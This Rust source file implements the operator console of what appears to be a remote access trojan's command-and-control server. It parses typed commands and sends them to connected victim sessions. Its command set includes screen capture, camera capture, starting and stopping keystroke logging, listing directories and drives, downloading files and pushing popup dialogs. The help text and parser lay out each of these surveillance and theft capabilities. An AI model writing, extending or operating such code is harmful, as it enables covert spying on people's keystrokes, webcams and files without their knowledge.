//! Operator console: one text command per line.
//!
//! [`parse_console_line`] is pure so the grammar can be tested without a
//! terminal; [`execute`] applies a parsed command to the session registry
//! and returns the text to print.
//!
//! ```text
//! list                                   ping <id|all>
//! screenshot <id>                        photo <id>
//! popup <id> <kind> <title> | <message>  keylog <start|stop> <id>
//! ls <id> [path]                         info <id> <path>
//! get <id> <path>                        drives <id>
//! kick <id>                              help
//! exit
//! ```
//!
//! Paths and popup text take the rest of the line, so they may contain
//! spaces.

use tether_core::{Command, DialogKind};
use thiserror::Error;

use crate::application::session_registry::{SendError, SessionId, SessionRegistry};

/// Usage text printed by `help`.
pub const HELP_TEXT: &str = "\
Commands:
  list                                   show connected sessions
  ping <id|all>                          send a heartbeat probe
  screenshot <id>                        request a screen capture
  photo <id>                             request a camera capture
  popup <id> <kind> <title> | <message>  show a dialog (info, warning, error, question)
  keylog <start|stop> <id>               start or stop keystroke batches
  ls <id> [path]                         list a directory
  info <id> <path>                       show file details
  get <id> <path>                        download a file
  drives <id>                            list drives
  kick <id>                              close a session
  help                                   show this text
  exit                                   stop the server";

/// Which sessions a console command addresses.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Target {
    All,
    Session(SessionId),
}

/// A parsed console line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ConsoleCommand {
    List,
    Help,
    Exit,
    Ping(Target),
    /// Send one command to one session.
    Send {
        session: SessionId,
        command: Command,
    },
    Kick {
        session: SessionId,
    },
}

/// Why a console line could not be parsed.
#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum ConsoleError {
    #[error("empty line")]
    Empty,

    #[error("unknown command `{0}` (type `help` for a list)")]
    UnknownVerb(String),

    #[error("usage: {0}")]
    Usage(&'static str),
}

/// What the console loop should do after executing a command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ConsoleOutcome {
    /// Print the text (if any) and read the next line.
    Continue(String),
    /// Stop the server.
    Exit,
}

/// Parses one console line.
///
/// # Errors
///
/// [`ConsoleError::Empty`] for blank input, [`ConsoleError::UnknownVerb`]
/// for an unrecognised first word, and [`ConsoleError::Usage`] when the
/// arguments do not fit the verb.
pub fn parse_console_line(line: &str) -> Result<ConsoleCommand, ConsoleError> {
    let line = line.trim();
    if line.is_empty() {
        return Err(ConsoleError::Empty);
    }
    let (verb, rest) = split_word(line);

    match verb.to_ascii_lowercase().as_str() {
        "list" | "sessions" => Ok(ConsoleCommand::List),
        "help" | "?" => Ok(ConsoleCommand::Help),
        "exit" | "quit" => Ok(ConsoleCommand::Exit),
        "ping" => match rest {
            "" => Err(ConsoleError::Usage("ping <id|all>")),
            "all" => Ok(ConsoleCommand::Ping(Target::All)),
            id => Ok(ConsoleCommand::Ping(Target::Session(id.to_string()))),
        },
        "screenshot" => single_session(rest, "screenshot <id>", Command::Screenshot),
        "photo" => single_session(rest, "photo <id>", Command::Photo),
        "drives" => single_session(rest, "drives <id>", Command::GetDrives),
        "kick" => {
            let session = only_id(rest, "kick <id>")?;
            Ok(ConsoleCommand::Kick { session })
        }
        "keylog" => parse_keylog(rest),
        "popup" => parse_popup(rest),
        "ls" => {
            const USAGE: &str = "ls <id> [path]";
            let (id, path) = split_word(rest);
            if id.is_empty() {
                return Err(ConsoleError::Usage(USAGE));
            }
            let path = (!path.is_empty()).then(|| path.to_string());
            Ok(send(id, Command::FileList { path }))
        }
        "info" => {
            let (id, path) = id_and_path(rest, "info <id> <path>")?;
            Ok(send(
                &id,
                Command::FileInfo {
                    file_path: path,
                },
            ))
        }
        "get" => {
            let (id, path) = id_and_path(rest, "get <id> <path>")?;
            Ok(send(
                &id,
                Command::FileDownload {
                    file_path: path,
                },
            ))
        }
        _ => Err(ConsoleError::UnknownVerb(verb.to_string())),
    }
}

/// Applies a parsed command to the registry.
pub async fn execute(cmd: ConsoleCommand, registry: &SessionRegistry) -> ConsoleOutcome {
    let text = match cmd {
        ConsoleCommand::Exit => return ConsoleOutcome::Exit,
        ConsoleCommand::Help => HELP_TEXT.to_string(),
        ConsoleCommand::List => {
            let ids = registry.ids();
            if ids.is_empty() {
                "no sessions".to_string()
            } else {
                let mut text = format!("{} session(s):", ids.len());
                for id in ids {
                    text.push_str("\n  ");
                    text.push_str(&id);
                }
                text
            }
        }
        ConsoleCommand::Ping(Target::All) => {
            let outcomes = registry.broadcast(&Command::Ping).await;
            let failed: Vec<String> = outcomes
                .iter()
                .filter_map(|(id, result)| result.as_ref().err().map(|e| format!("{id}: {e}")))
                .collect();
            let mut text = format!("ping sent to {} session(s)", outcomes.len() - failed.len());
            for line in failed {
                text.push_str("\n  failed ");
                text.push_str(&line);
            }
            text
        }
        ConsoleCommand::Ping(Target::Session(session)) => {
            sent_text(&session, "ping", registry.send_to(&session, &Command::Ping).await)
        }
        ConsoleCommand::Send { session, command } => {
            let result = registry.send_to(&session, &command).await;
            sent_text(&session, command.tag(), result)
        }
        ConsoleCommand::Kick { session } => match registry.get(&session) {
            Some(link) => {
                link.close().await;
                format!("{session} closed")
            }
            None => format!("no session with id {session}"),
        },
    };
    ConsoleOutcome::Continue(text)
}

fn sent_text(
    session: &str,
    tag: &str,
    result: Result<(), SendError>,
) -> String {
    match result {
        Ok(()) => format!("{tag} sent to {session}"),
        Err(e) => format!("{tag} not sent: {e}"),
    }
}

// ── Parsing helpers ──────────────────────────────────────────────────────────

/// Splits off the first whitespace-delimited word; the rest is trimmed.
fn split_word(text: &str) -> (&str, &str) {
    let text = text.trim_start();
    match text.split_once(char::is_whitespace) {
        Some((word, rest)) => (word, rest.trim()),
        None => (text, ""),
    }
}

fn send(id: &str, command: Command) -> ConsoleCommand {
    ConsoleCommand::Send {
        session: id.to_string(),
        command,
    }
}

fn only_id(rest: &str, usage: &'static str) -> Result<SessionId, ConsoleError> {
    let (id, extra) = split_word(rest);
    if id.is_empty() || !extra.is_empty() {
        return Err(ConsoleError::Usage(usage));
    }
    Ok(id.to_string())
}

fn single_session(
    rest: &str,
    usage: &'static str,
    command: Command,
) -> Result<ConsoleCommand, ConsoleError> {
    let id = only_id(rest, usage)?;
    Ok(send(&id, command))
}

fn id_and_path(rest: &str, usage: &'static str) -> Result<(SessionId, String), ConsoleError> {
    let (id, path) = split_word(rest);
    if id.is_empty() || path.is_empty() {
        return Err(ConsoleError::Usage(usage));
    }
    Ok((id.to_string(), path.to_string()))
}

fn parse_keylog(rest: &str) -> Result<ConsoleCommand, ConsoleError> {
    const USAGE: &str = "keylog <start|stop> <id>";
    let (action, rest) = split_word(rest);
    let command = match action {
        "start" => Command::KeylogStart,
        "stop" => Command::KeylogStop,
        _ => return Err(ConsoleError::Usage(USAGE)),
    };
    let id = only_id(rest, USAGE)?;
    Ok(send(&id, command))
}

fn parse_popup(rest: &str) -> Result<ConsoleCommand, ConsoleError> {
    const USAGE: &str = "popup <id> <kind> <title> | <message>";
    let (id, rest) = split_word(rest);
    let (kind, text) = split_word(rest);
    if id.is_empty() || kind.is_empty() || text.is_empty() {
        return Err(ConsoleError::Usage(USAGE));
    }
    let (title, message) = match text.split_once('|') {
        Some((title, message)) => (title.trim(), message.trim()),
        None => (text, ""),
    };
    if title.is_empty() {
        return Err(ConsoleError::Usage(USAGE));
    }
    Ok(send(
        id,
        Command::Popup {
            title: title.to_string(),
            message: message.to_string(),
            kind: dialog_kind(kind),
        },
    ))
}

fn dialog_kind(word: &str) -> DialogKind {
    match word.to_ascii_lowercase().as_str() {
        "info" => DialogKind::Info,
        "warning" => DialogKind::Warning,
        "error" => DialogKind::Error,
        "question" => DialogKind::Question,
        _ => DialogKind::Plain,
    }
}

// ── Tests ─────────────────────────────────────────────────────────────────────
